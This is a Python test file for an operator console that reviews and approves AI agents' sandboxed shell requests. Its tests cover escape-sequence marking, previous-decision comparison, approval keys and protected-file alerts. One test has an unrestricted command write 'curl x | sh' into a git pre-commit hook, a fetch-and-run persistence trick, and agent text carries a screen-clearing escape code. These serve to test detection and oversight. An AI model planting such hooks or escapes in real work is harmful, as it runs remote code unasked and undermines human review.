"""What the console tells the operator, and where the approve
key lands: each renders or drives the real console (Pilot) against a real daemon."""

from __future__ import annotations

import random

import pytest
from rich.style import Style
from support.daemon import running_daemon, workspace
from support.items import history_row, pending_item, tripwire_notice
from support.tui import Agent, Clock, make_app, pending_with, select, tagged, until

from console.contract.host import OSHost
from console.contract.operation import parse
from console.policy.config import policy_from_toml
from console.policy.evaluate import evaluate
from console.protocol.pending import PendingItem
from console.tui.model.watch_model import TripwireEntry
from console.tui.render.present import PLAIN, DetailOptions, render_previous, render_request
from console.tui.render.untrusted import block
from console.tui.screens.prompts import TextPrompt

SIZE = (130, 42)


DAEMON_POLICY = "approval_timeout_s = 120\n"


@pytest.fixture
def clock():
    return Clock()


def rows(*found):
    """Previous decisions as ``history.previous`` answers them, from the fields a test names."""
    return [history_row(r) for r in found]


def evaluated(ws, **fields) -> PendingItem:
    """A pending item as the daemon would list it, with the real policy's evaluation."""
    wire = {"kind": "shell", "executable": "bash", "workspace_root": str(ws), **fields}
    op = parse(wire, OSHost())
    decision = evaluate(op, policy_from_toml(f'workspaces = ["{ws}"]\n'))
    return pending_item(
        {
            "request_id": "r-1-1",
            "fingerprint": op.fingerprint,
            "command": "bash",
            "operation": op.to_wire(),
            "evaluation": decision.to_dict(),
        }
    )


# ---------------------------------------------------------------- finding 2


def test_an_unrestricted_detail_says_what_is_lifted_and_nothing_stays_forbidden():
    ws = workspace()
    item = evaluated(ws, args=["-c", "npm run dev"], capabilities=[{"kind": "unrestricted"}])
    plain = render_request(item, [], PLAIN, DetailOptions()).text.plain
    assert "Still forbidden by the sandbox" not in plain
    assert "protected paths stay read-only" not in plain
    assert "Approving lifts the whole sandbox" in plain
    assert "it can write protected paths" in plain
    # A sandboxed request still lists what the sandbox keeps from it.
    sandboxed = render_request(evaluated(ws, args=["-c", "ls"]), [], PLAIN, DetailOptions()).text.plain
    assert "Still forbidden by the sandbox" in sandboxed and "lifts" not in sandboxed


# ---------------------------------------------------------------- finding 3


def test_a_real_escape_is_marked_and_the_same_letters_typed_are_not():
    shown = block("real \x1b[2J\ntyped \\e[2J", max_chars=1000, max_lines=10)
    real, typed = shown.lines
    assert real.text == "real \\e[2J" and typed.text == "typed \\e[2J"  # the same characters…
    assert real.escapes == ((5, 7),) and typed.escapes == ()  # …told apart by their style
    styles = dict(PLAIN, escape=Style(reverse=True))
    item = evaluated(workspace(), args=["-c", "ls"], justification="real \x1b[2J\ntyped \\e[2J")
    text = render_request(item, [], styles, DetailOptions()).text
    marked = {text.plain[s.start : s.end] for s in text.spans if s.style == styles["escape"]}
    assert "\\e" in marked


def test_a_plain_newline_raises_no_control_character_alarm():
    ws = workspace()
    calm = evaluated(ws, args=["-c", "make\nmake test"], justification="build,\nthen\ttest")
    assert "the agent's text contains" not in render_request(calm, [], PLAIN, DetailOptions()).text.plain
    loud = evaluated(ws, args=["-c", "ls"], justification="fine\rhidden")
    assert "control characters" in render_request(loud, [], PLAIN, DetailOptions()).text.plain


# ---------------------------------------------------------------- finding 6


def test_previous_decisions_compare_the_same_command_and_say_who_decided():
    previous = rows(
        {"command": "/usr/bin/pytest -q", "verdict": "allow", "source": "policy", "at": 0},
        {"command": "/usr/bin/pip install requests", "verdict": "allow", "source": "policy", "at": 0},
    )
    plain = render_previous(["/usr/bin/pip", "install", "flask"], previous, PLAIN, now=60).plain
    assert "differs from what the policy allowed" in plain and "you approved" not in plain
    assert "- requests" in plain and "+ flask" in plain  # against pip install, not pytest
    other = render_previous(["/usr/bin/pip", "uninstall", "x"], previous, PLAIN, now=60).plain
    assert "none for this command (2 other uses of the program)" in other
    mine = rows({"command": "/usr/bin/pip install flask", "verdict": "allow", "source": "operator", "at": 0})
    assert (
        "the same command: you approved"
        in render_previous(["/usr/bin/pip", "install", "flask"], mine, PLAIN, now=60).plain
    )


def test_the_chain_split_says_what_a_semicolon_means():
    item = evaluated(workspace(), args=["-c", "make; make test && ./deploy"])
    plain = render_request(item, [], PLAIN, DetailOptions()).text.plain
    assert "; next, whatever the result" in plain and "; then" not in plain


# ---------------------------------------------------------------- findings 8, and the gesture


@pytest.mark.needs_bwrap
async def test_the_approve_key_lands_on_the_request_whose_detail_is_shown(daemon, clock):
    """Random walks over the queue and the detail, then `a`: the request approved is always
    the one whose id the detail shows at the top (finding 8: `Tab`, `k`, `a`)."""
    ws = workspace()
    rng = random.Random(15)
    agents: dict[str, Agent] = {}
    app = make_app(daemon, clock)
    async with app.run_test(size=SIZE) as pilot:
        for _ in range(4):
            op, tag = tagged(ws)
            agent = Agent(daemon, op)
            agents[await pending_with(pilot, app, tag)] = agent
        first = next(iter(agents))
        await select(pilot, app, first, clock)
        queue = app.views["queue"]
        for _trial in range(8):
            for key in rng.choices(["j", "k", "down", "up", "tab", "shift+tab"], k=rng.randint(1, 6)):
                await pilot.press(key)
            await pilot.pause()
            clock.advance(5)  # the guard: long enough on screen
            await pilot.pause()
            shown = queue.detail.request_id
            assert shown is not None
            assert queue.detail.plain.startswith(shown)  # its id is on screen, first
            await pilot.press("a")
            answered = await until(pilot, lambda: [r for r, a in agents.items() if not a.waiting])
            assert answered == [shown], (answered, shown)
            await agents.pop(shown).answer()
            op, tag = tagged(ws)
            agent = Agent(daemon, op)
            agents[await pending_with(pilot, app, tag)] = agent
        for rid in list(agents):
            await pilot.pause()
            await select(pilot, app, rid, clock)
            await pilot.press("d")
            await agents.pop(rid).answer()


@pytest.mark.needs_bwrap
async def test_an_unrestricted_approval_needs_the_word_typed(daemon, clock):
    ws = workspace()
    op, tag = tagged(ws, capabilities=[{"kind": "unrestricted"}])
    agent = Agent(daemon, op)
    app = make_app(daemon, clock)
    async with app.run_test(size=SIZE) as pilot:
        rid = await pending_with(pilot, app, tag)
        await select(pilot, app, rid, clock)
        await pilot.press("a")
        await until(pilot, lambda: isinstance(app.screen, TextPrompt))
        await pilot.press(*"yes", "enter")  # not the word: nothing is approved
        await pilot.pause()
        assert isinstance(app.screen, TextPrompt) and agent.waiting
        await pilot.press("escape")
        await until(pilot, lambda: not isinstance(app.screen, TextPrompt))
        assert agent.waiting
        await pilot.pause()
        clock.advance(5)  # back on screen: the guard wants it seen again
        await pilot.press("a")
        await until(pilot, lambda: isinstance(app.screen, TextPrompt))
        await pilot.press(*"unrestricted", "enter")
        answer = await agent.answer()
        assert (answer["verdict"], answer["request_id"]) == ("allow", rid)


@pytest.mark.needs_bwrap
async def test_an_ordinary_escalation_is_still_one_key(daemon, clock):
    ws = workspace()
    op, tag = tagged(ws)  # network: one key
    agent = Agent(daemon, op)
    app = make_app(daemon, clock)
    async with app.run_test(size=SIZE) as pilot:
        rid = await pending_with(pilot, app, tag)
        await select(pilot, app, rid, clock)
        await pilot.press("a")
        assert (await agent.answer())["verdict"] == "allow"


# ---------------------------------------------------------------- finding 9


@pytest.mark.needs_bwrap
async def test_a_new_tripwire_goes_to_the_top_and_takes_the_cursor(daemon, clock):
    ws = workspace()
    op, tag = tagged(ws)
    agent = Agent(daemon, op)
    app = make_app(daemon, clock)
    async with app.run_test(size=SIZE) as pilot:
        rid = await pending_with(pilot, app, tag)
        await select(pilot, app, rid, clock)
        app.add_pending(TripwireEntry(tripwire_notice({"id": "tw-1"})))
        queue = app.views["queue"]
        await until(pilot, lambda: queue.detail.request_id == "tw-1")
        assert app.pending.entry(0).request_id == "tw-1"
        app.request_left("tw-1")
        await until(pilot, lambda: queue.detail.request_id == rid)
        await pilot.press("d")
        await agent.answer()


# ---------------------------------------------------------------- finding 10


@pytest.mark.parametrize("size", [(80, 24), (120, 40), (200, 60)])
async def test_at_any_width_the_footer_keeps_help_and_quit_and_the_header_its_alarms(size):
    from support.tui import screen_text
    from test_tui_snapshots import loaded, make

    app = make()
    async with app.run_test(size=size) as pilot:
        await loaded(pilot)
        app.pills.set("sandbox", "sandbox: bubblewrap 0.8.0, network isolated, seccomp on", "muted")
        app.pills.set("watch", "1 protected change", "error", short="1 protected")
        app.pills.set("attention", "2 agents waiting for you", "warning", short="2 waiting")
        await pilot.pause()
        lines = screen_text(app).splitlines()
        header, footer = lines[0], lines[-1]
        assert "? keys" in footer and "q quit" in footer, footer
        assert "esc" in header and "protected" in header and "waiting" in header, header
        assert "…" not in header, header  # degraded by priority, never cut mid-badge


# ---------------------------------------------------------------- findings 11 and 15


async def test_the_palette_lists_each_command_once_with_human_key_names():
    from test_tui_snapshots import loaded, make

    from console.tui.commands import ConsoleCommands

    app = make()
    async with app.run_test(size=(120, 40)) as pilot:
        await loaded(pilot)
        entries = ConsoleCommands(app.screen).entries()
        titles = [e.title for e in entries]
        assert len(titles) == len(set(titles))
        assert {ConsoleCommands} == type(app).COMMANDS  # no second "Theme"/"Keys" from Textual
        helps = " ".join(e.help for e in entries)
        assert "help · ?" in helps and "question_mark" not in helps


async def test_a_status_message_expires():
    from test_tui_snapshots import loaded, make

    from console.tui.widgets import status_line
    from console.tui.widgets.status_line import StatusLine

    app = make()
    async with app.run_test(size=(120, 40)) as pilot:
        await loaded(pilot)
        line = app.screen.query_one(StatusLine)
        old = status_line.EXPIRE_S
        status_line.EXPIRE_S = 0.2
        try:
            line.say("kept paused: s-1", "warning")
            assert line.message
            await until(pilot, lambda: line.message == "", timeout=5)
        finally:
            status_line.EXPIRE_S = old


# ---------------------------------------------------------------- finding 14


async def test_a_call_made_while_the_console_connects_waits_instead_of_failing(monkeypatch):
    """`sessions attach ID` asked the daemon before the link was up and said "not
    connected to the daemon" while everything worked."""
    import asyncio

    from support.snapshot_data import ReplayClient
    from test_tui_snapshots import make

    from console.client import DaemonUnreachable
    from console.tui import link as link_module

    app = make()
    release = asyncio.Event()  # the connection comes only once the call is waiting

    async def slow() -> ReplayClient:
        await release.wait()
        return ReplayClient()

    app.link._connect = slow
    # A generous wait for the slow connection (a loaded machine), a short one for the
    # connection that never comes.
    monkeypatch.setattr(link_module, "CONNECT_WAIT_S", 60.0)
    async with app.run_test(size=(120, 40)):
        assert app.link.client is None  # still connecting
        call = asyncio.ensure_future(app.link.call("grants.list"))
        await asyncio.sleep(0.2)
        assert not call.done()  # it waits, instead of failing at once
        release.set()
        result = await asyncio.wait_for(call, 60)
        assert "grants" in result
        app.link.client = None
        app.link.connected.clear()
        app.link._connect = lambda: asyncio.sleep(3600)  # never again
        monkeypatch.setattr(link_module, "CONNECT_WAIT_S", 0.5)
        with pytest.raises(DaemonUnreachable, match="did not answer"):
            await app.link.call("grants.list")


async def test_the_demo_does_not_promise_its_daemon_outlives_quit():
    from test_tui_snapshots import make

    from console.tui.commands import ConsoleCommands
    from console.tui.settings.actions import ACTIONS

    quit_spec = next(s for s in ACTIONS if s.id == "quit")
    app = make()
    assert "keep running" in app.describe(quit_spec)
    app.throwaway = True
    async with app.run_test(size=(120, 40)):
        titles = [e.title for e in ConsoleCommands(app.screen).entries()]
    assert not any("keep running" in t for t in titles)
    assert any("throw-away daemon" in t for t in titles)


# ---------------------------------------------------------------- finding 5, the dev server


def test_a_request_that_ran_as_a_session_shows_it_and_its_protected_changes():
    """The dev server's history entry said "not run by the console" and "Protected file
    events (0)" although its session wrote the hook."""
    import json

    from support.daemon import in_background, wait_for

    from console.tui.render.outcome_text import render_outcome
    from console.tui.render.present import PLAIN

    ws = workspace()
    policy = f"approval_timeout_s = 60\nwatch = {json.dumps([str(ws)])}\n"
    with running_daemon(policy) as d:
        with d.operator() as op:
            wait_for(lambda: op.call("watch.status")["ok"] and op.call("watch.status")["roots"])
        dev = {
            "kind": "shell",
            "executable": "bash",
            "args": ["-c", "sleep 0.5; echo 'curl x | sh' > .git/hooks/pre-commit; sleep 30"],
            "workspace_root": str(ws),
            "mode": "durable",
            "capabilities": [{"kind": "unrestricted"}],
        }

        def submit():
            with d.agent() as agent:
                return agent.call("operation.submit", {"operation": dev})

        answer = in_background(submit)
        with d.operator() as op:
            item = wait_for(lambda: op.call("pending.list")["pending"])[0]
            op.call("decide", {"target": item["request_id"], "action": "approve"})
            sid = answer()["session"]["id"]
            rid = item["request_id"]
            detail = wait_for(
                lambda: (got := op.call("request.get", {"request_id": rid})["detail"])["file_events"] and got,
                timeout_s=15,
            )
            op.call("sessions.kill", {"session": sid, "grace_s": 0.5})
        assert detail["outcome"]["body"]["session"] == sid
        shown = render_outcome(history_row(detail["outcome"]), PLAIN, 1000).plain
        assert "RAN AS A SESSION" in shown and "not run by the console" not in shown
        assert "UNRESTRICTED" in shown
        # The shell's `>` creates, then writes: one event, or two when a loaded machine
        # lets the watcher read in between.
        assert {e["command"] for e in detail["file_events"]} == {".git/hooks/pre-commit"}


def test_a_previous_decision_made_in_another_workspace_says_so():
    """The demo showed it: a first `git status` in a checkout nobody trusted read "the same
    command: the policy allowed", because the policy had allowed it in the trusted project.
    The same words in another workspace or directory are not the same operation."""
    here = ("/work/fresh-clone", "/work/fresh-clone")
    there = {"command": "/usr/bin/git status", "verdict": "allow", "source": "policy", "at": 0}
    elsewhere = rows({**there, "workspace_root": "/work/project", "cwd": "/work/project"})
    plain = render_previous(["/usr/bin/git", "status"], elsewhere, PLAIN, now=60, where=here).plain
    assert "the same command in another workspace (/work/project): the policy allowed" in plain

    below = rows({**there, "workspace_root": "/work/fresh-clone", "cwd": "/work/fresh-clone/src"})
    plain = render_previous(["/usr/bin/git", "status"], below, PLAIN, now=60, where=here).plain
    assert "the same command in another directory (/work/fresh-clone/src): the policy allowed" in plain

    # Of two decisions as close, the one made here is the one compared.
    both = [*elsewhere, *rows({**there, "workspace_root": here[0], "cwd": here[1], "source": "operator"})]
    plain = render_previous(["/usr/bin/git", "status"], both, PLAIN, now=60, where=here).plain
    assert "the same command: you approved" in plain

    # Arguments that differ too: both are said.
    plain = render_previous(["/usr/bin/git", "status", "-s"], elsewhere, PLAIN, now=60, where=here).plain
    assert (
        "differs from what the policy allowed 1 min ago in another workspace (/work/project): + -s" in plain
    )

    # In the detail: the operation's cwd is relative to its root, the history's absolute.
    ws = workspace()  # it has a src/
    item = evaluated(ws, args=["-c", "ls"])
    argv = item.operation.argv
    record = {**there, "command": " ".join(argv), "workspace_root": str(ws), "cwd": str(ws)}
    options = DetailOptions()
    plain = render_request(item, [], PLAIN, options, previous=rows(record), now=60).text.plain
    assert "the same command: the policy allowed" in plain
    sub = evaluated(ws, args=["-c", "ls"], cwd="src")
    plain = render_request(sub, [], PLAIN, options, previous=rows(record), now=60).text.plain
    assert f"the same command in another directory ({ws}): the policy allowed" in plain


async def test_a_used_once_grant_says_used_and_is_not_shown_as_active(daemon, clock):
    """A once-grant that allowed its one request no longer applies (the daemon's rule);
    with inactive grants shown, the screen listed it like an active one, because it
    marked only revoked and expired grants."""
    from support.tui import screen_text

    from console.tui.screens.grants import GrantsScreen

    op, _tag = tagged(workspace())
    with daemon.agent() as agent:
        fingerprint = agent.submit(op, timeout_s=0.05)["fingerprint"]
    with daemon.operator() as operator:
        gid = operator.call("grants.add", {"fingerprint": fingerprint, "scope": "once"})["grant"]["id"]
    with daemon.agent() as agent:
        assert agent.submit(op)["reason"] == "grant_once"
    app = make_app(daemon, clock)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("3")
        await until(pilot, lambda: isinstance(app.screen, GrantsScreen))
        await pilot.press("i")
        line = await until(pilot, lambda: next((s for s in screen_text(app).splitlines() if gid in s), None))
        assert " used " in line, line
